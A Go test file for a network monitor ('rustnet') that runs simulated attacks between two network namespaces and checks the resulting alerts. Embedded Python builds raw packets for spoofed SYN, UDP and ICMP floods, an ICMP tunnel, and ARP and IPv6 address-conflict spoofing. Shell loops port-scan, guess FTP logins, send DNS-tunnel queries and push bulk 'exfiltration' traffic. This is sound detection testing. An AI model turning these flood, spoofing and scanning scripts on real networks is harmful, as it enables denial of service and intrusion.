//go:build linux

package main

import (
	"cmp"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// finding is what an alert says.
type finding struct {
	Event, Alert, Process string
	Reason                string   `json:"alert_reason"`
	Pattern               []string `json:"pattern"`
}

// attacked is a server with much room for those who knock, and one that answers an echo with more than was asked.
const attacked = `
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("10.77.0.2", 9002))
s.listen(1024)
e = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
while True:
    b, (peer, _) = e.recvfrom(2000)
    if b[20] == 8 and b.endswith(b"send"):
        m = b"\0\0\0\0" + b[24:28] + b"x" * 1400
        n = sum(int.from_bytes(m[i:i+2]) for i in range(0, len(m), 2))
        n = (n & 0xffff) + (n >> 16)
        m = m[:2] + ((n & 0xffff) + (n >> 16) ^ 0xffff).to_bytes(2) + m[4:]
        for _ in range(20):
            e.sendto(m, (peer, 0))
`

// attacks knock under other names and do not come in, ask for what a tunnel brings, and claim an address in turn.
const attacks = `
import socket, struct, time
def add(b):
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    n = (n & 0xffff) + (n >> 16)
    return (n & 0xffff) + (n >> 16) ^ 0xffff
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = socket.inet_aton("10.77.0.2")
for i in range(150):
    src = socket.inet_aton("203.0.113.%d" % (i + 1))
    tcp = struct.pack("!HHIIBBHHH", 40000 + i, 9002, i, 0, 0x50, 2, 64000, 0, 0)
    n = add(src + to + struct.pack("!HH", 6, 20) + tcp)
    tcp = tcp[:16] + struct.pack("!H", n) + tcp[18:]
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i, 0, 64, 6, 0, src, to) + tcp, ("10.77.0.2", 0))
echo = struct.pack("!BBHHH", 8, 0, 0, 77, 1) + b"\0\0\0\0send"
echo = echo[:2] + struct.pack("!H", add(echo)) + echo[4:]
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(echo, ("10.77.0.2", 0))
for i in range(1200):
    src = socket.inet_aton("203.0.113.%d" % (i % 200 + 1))
    udp = struct.pack("!HHHH", 20000 + i, 9003, 12, 0) + b"\xf0\xf1\xf2\xf3"
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 32, i, 0, 64, 17, 0, src, to) + udp, ("10.77.0.2", 0))
    ping = struct.pack("!BBHHH", 8, 0, 0, i, 1)
    ping = ping[:2] + struct.pack("!H", add(ping)) + ping[4:]
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, i, 0, 64, 1, 0, src, to) + ping, ("10.77.0.2", 0))
    time.sleep(0.001)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("c0", 0))
for last in (10, 11, 10):
    mac = bytes([2, 0, 0, 0, 0, last])
    src, dst = b"\x20\1\x0d\xb8" + bytes(11) + b"\x77", b"\xff\2" + bytes(13) + b"\1"
    nd = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, src, 2, 1, mac)
    nd = nd[:2] + struct.pack("!H", add(src + dst + struct.pack("!II", len(nd), 58) + nd)) + nd[4:]
    link.send(b"\x33\x33\0\0\0\1" + mac + struct.pack("!HIHBB16s16s", 0x86dd, 0x60000000, len(nd), 58, 255, src, dst) + nd)
    link.send(b"\xff" * 6 + mac + struct.pack("!HHHBBH6s4s6s4s", 0x806, 1, 0x800, 6, 4, 2, mac, socket.inet_aton("10.77.0.77"), b"\xff" * 6, socket.inet_aton("10.77.0.1")))
    time.sleep(2)
`

// TestAlertsLive: each detector finds what real programs do, and ordinary ones give no alert.
func TestAlertsLive(t *testing.T) {
	needs(t, true, "ip", "nsenter", "tc", "curl", "dig", "dnsmasq", "nc", "socat", "python3")
	t.Parallel()
	client, server := twoHosts(t)
	dir := t.TempDir()
	// Addresses that are nobody's, so that they are outside.
	must(t, "ip", "-n", server, "addr", "add", "198.51.100.2/32", "dev", "lo")
	must(t, "ip", "-n", client, "route", "add", "198.51.100.0/24", "via", "10.77.0.2")
	// What the server sends comes in a burst, and then at 1 MB/s.
	must(t, in(server, "tc", "qdisc", "add", "dev", "s0", "root", "tbf", "rate", "8mbit", "burst", "3mb", "latency", "50ms")...)
	background(t, in(server, "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--conf-file=/dev/null", "--pid-file="+dir+"/dnsmasq.pid",
		"--address=/demo.io/198.51.100.2", "--address=/com/", "--user=root")...)
	background(t, in(server, "socat", "-u", "TCP-LISTEN:9000,fork,reuseaddr,backlog=64", "OPEN:/dev/null")...)
	background(t, in(server, "socat", "TCP-LISTEN:80,fork,reuseaddr,backlog=64", "SYSTEM:printf 'HTTP/1.0 200 OK\\r\\n\\r\\nhi'")...)
	background(t, in(server, "socat", "-u", "OPEN:/dev/zero", "TCP-LISTEN:9001,reuseaddr")...)
	ftp := filepath.Join(dir, "ftp")
	if err := os.WriteFile(ftp, []byte("printf '220 ftp\\r\\n'\nread a; printf '331 password\\r\\n'\nread a; printf '530 no\\r\\n'\nread a\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	background(t, in(server, "socat", "TCP-LISTEN:21,fork,reuseaddr,backlog=64", "EXEC:sh "+ftp)...)
	must(t, "ip", "-n", server, "route", "add", "203.0.113.0/24", "via", "10.77.0.1")
	background(t, in(server, "python3", "-c", attacked)...)
	for _, port := range []string{"21", "53", "80", "9000", "9001", "9002"} {
		waitListening(t, server, port)
	}
	w := watch(t, in(client, "rustnet", "--json", "--events", "new,alert", "--detect", "all", "--learn", "0s", "--fields", "event,process,remote_port,alert,alert_reason,pattern")...)
	// A probe that is answered, as others would be alerts on a slow machine.
	probe := func() {
		exec.Command("nsenter", in(client, "dig", "+tries=1", "+time=30", "@10.77.0.2", "probe.demo.io")[1:]...).Run()
	}
	probed := func(r *record) bool { return r.RemotePort == 53 }
	w.until("a probe", probed, probe)
	download := background(t, in(client, "bash", "-c", "exec nc -d 198.51.100.2 9001 > /dev/null")...)
	beacon := background(t, in(client, "python3", "-c", `
import socket, time
begin = time.monotonic()
for i in range(3600):
    time.sleep(max(0, begin + i - time.monotonic()))
    socket.create_connection(("198.51.100.2", 80), 60).close()
`)...)
	run := func(script string) {
		exec.Command("nsenter", in(client, "bash", "-c", script)[1:]...).Run()
	}
	run("nc -z -w 30 10.77.0.2 100-130")
	exec.Command("nsenter", in(client, "python3", "-c", attacks)[1:]...).Run()
	run("for i in {1..7}; do curl -s -m 60 ftp://anna:$i@10.77.0.2/; done; for i in {1..32}; do dig +tries=1 +time=30 @10.77.0.2 qx$i.com; done")
	exec.Command("nsenter", in(server, "nc", "-z", "-w", "30", "10.77.0.1", "200-230")[1:]...).Run()
	run("for i in {1..12}; do curl -s -m 60 http://10.77.0.2:82/; done")
	run("for i in {1..25}; do dig +tries=1 +time=30 @10.77.0.2 TXT $(head -c 20 /dev/urandom | base32 -w 0 | tr -d =).t.demo.io; done")
	run("for i in {1..25}; do head -c 2000 /dev/zero | nc -N -w 60 198.51.100.2 9000; done; head -c 12000000 /dev/zero | nc -N -w 60 198.51.100.2 9000")

	want := map[string]string{ // by what is found, what is said of it
		"port-scan nc":        "nc tried 15 ports of 10.77.0.2 in ",
		"port-scan ":          "10.77.0.2 tried 15 ports of 10.77.0.1 in ",
		"failing curl":        "curl gets nowhere with 10.77.0.2 tcp 82: 10 connections in a row",
		"dns-tunnel dig":      "dig asked for 20 names below demo.io in ",
		"exfiltration nc":     "nc sent 1",
		"beacon python":       " connects to ",
		"throttled nc":        "what nc receives from ",
		"login-guessing curl": "curl could not log in by ftp to 10.77.0.2 port 21: 6 connections in a row in ",
		"nxdomain dig":        "dig asked for 30 domains in ",
		"syn-flood ":          "100 connections to 10.77.0.2 port 9002 were left half open in ",
		"icmp-tunnel python":  "10.77.0.2 answered echo requests of python",
		"udp-flood ":          "1000 datagrams to 10.77.0.2 port 9003 were each the first of somebody who was not answered, in ",
		"icmp-flood ":         "32 addresses or more pinged 10.77.0.2: 1000 times in ",
		"address-conflict ":   "10.77.0.77 is claimed by 02:00:00:00:00:0b and 02:00:00:00:00:0a in turn: 2 changes in ",
		"address-conflict  ":  "2001:db8::77 is claimed by 02:00:00:00:00:0b and 02:00:00:00:00:0a in turn: 2 changes in ",
		"first-contact curl":  "curl is seen for the first time: it talks to ",
	}
	found, alerts := map[string]string{}, ""
	end := time.After(3 * time.Minute) // a busy machine has the beacon less regular: that takes its time
	for over := false; !over && len(found) < len(want); {
		select {
		case line, ok := <-w.lines:
			if !ok {
				t.Fatalf("rustnet ended: %s", w.stderr.String())
			}
			var f finding
			if err := json.Unmarshal([]byte(line), &f); err != nil {
				t.Fatal(err)
			}
			if f.Alert == "" {
				continue
			}
			alerts += line
			for key, text := range want {
				if found[key] != "" || !f.is(key, text) {
					continue
				}
				found[key] = f.Reason
				if pattern := cmp.Or(patternOf[f.Alert], f.Alert); !slices.Contains(f.Pattern, pattern) {
					t.Errorf("%s has the pattern %v", line, f.Pattern)
				}
			}
		case <-end:
			over = true
		}
	}
	for key := range want {
		if found[key] == "" {
			t.Errorf("%s: nothing was said in\n%s", key, alerts)
		}
	}
	if !strings.Contains(found["throttled nc"], "held to ") || !regexp.MustCompile(`every (1s|1\.0\d*s|9\d\dms)`).MatchString(found["beacon python"]) {
		t.Errorf("said %q and %q", found["throttled nc"], found["beacon python"])
	}
	w.cmd.Process.Kill()
	download.Kill()
	beacon.Kill()

	// What programs usually do.
	w = watch(t, in(client, "rustnet", "--json", "--events", "alert,new", "--detect", "all")...)
	w.until("a probe", probed, probe)
	run("for i in {1..10}; do curl -s -m 60 -o /dev/null http://198.51.100.2/; dig +tries=1 +time=30 @10.77.0.2 www$i.demo.io; done; head -c 1000000 /dev/zero | nc -N -w 60 198.51.100.2 9000")
	w.end()
	if n := len(w.seen); n < 20 || strings.Contains(w.ndjson.String(), `"event":"alert"`) {
		t.Errorf("%d records, among them alerts:\n%s", n, w.ndjson.String())
	}
}

// is tells whether a detector said so of a program, which are the words of key; of the program the beginning of its name.
func (f *finding) is(key, text string) bool {
	detector, process, _ := strings.Cut(strings.TrimRight(key, " "), " ")
	return f.Alert == detector && strings.HasPrefix(f.Process, process) && (process != "" || f.Process == "") && strings.Contains(f.Reason, text)
}

// patternOf is what connections are said to have, where it goes by another name than the alert.
var patternOf = map[string]string{"throttled": "shaped"}

// TestAlertRules: the rules that the document gives find what they say in what real programs did, and nothing in the rest.
func TestAlertRules(t *testing.T) {
	text, err := os.ReadFile("docs/alerts.md")
	if err != nil {
		t.Fatal(err)
	}
	_, rules, ok := strings.Cut(string(text), "```toml\n[alert]\n")
	rules, _, ok2 := strings.Cut(rules, "```")
	config := filepath.Join(t.TempDir(), "config.toml")
	if !ok || !ok2 || strings.Count(rules, "\n") < 8 {
		t.Fatalf("docs/alerts.md has no rules: %q", rules)
	}
	if err := os.WriteFile(config, []byte("[alert]\n"+rules), 0o600); err != nil {
		t.Fatal(err)
	}
	for capture, want := range map[string]string{"tls-certificates": "old-tls", "tls12": "self-signed", "telnet": "clear-login", "pop3": "clear-login", "ldap": "clear-login", "ssh": "odd-port",
		"dns-names": "rebinding", "http": "", "tls13": "", "quic": "", "dns": "", "ftp": "", "sip": "", "kafka": ""} {
		out, errs, status := rustnet(t, "-q", "--config", config, "-r", "testdata/"+capture+".pcap", "--json", "--events", "alert", "--fields", "alert")
		if status != 0 {
			t.Fatalf("%s: %d %s", capture, status, errs)
		}
		found := map[string]bool{}
		for line := range strings.Lines(out) {
			found[strings.TrimSpace(line)] = true
		}
		if line := `{"alert":"` + want + `"}`; want == "" && len(found) > 0 || want != "" && (len(found) != 1 || !found[line]) {
			t.Errorf("%s: got %v, want %q", capture, found, want)
		}
	}
}
